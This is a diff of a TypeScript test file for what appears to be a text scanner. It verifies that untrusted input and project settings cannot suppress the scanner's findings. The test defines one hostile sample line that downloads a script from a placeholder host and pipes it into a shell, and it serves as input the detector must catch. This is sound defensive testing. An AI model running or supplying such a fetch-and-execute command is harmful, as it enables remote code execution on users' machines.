@@ -1,4 +1,4 @@
-/** A text from an untrusted source cannot suppress its own findings, and neither can the project in the working directory. */
+/** Tests that neither a text from an untrusted source nor the project in the working directory can suppress findings in this text. */
 import { mkdirSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
@@ -8,7 +8,7 @@ import {
   createTestEvaluator,
   createTestEvaluatorApp,
 } from "../../service/support/services.js";
-import { folderWith } from "../folder.js";
+import { folderWith } from "../folder-with.js";
 import { runHere } from "../fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
@@ -86,7 +86,7 @@ describe("a project that suppresses findings", () => {
     ).toBe(0);
   });
 
-  it("is ignored on standard input, and for files that are scanned with it", async () => {
+  it("is ignored on standard input, and for files in the same scan", async () => {
     expect((await runHere(["scan", "-"], { cwd, stdin: BAD })).status).toBe(1);
     expect((await runHere(["scan", "-", "a.md"], { cwd, stdin: "x" })).stdout).toContain(
       "1 finding in 1 of 2 texts",
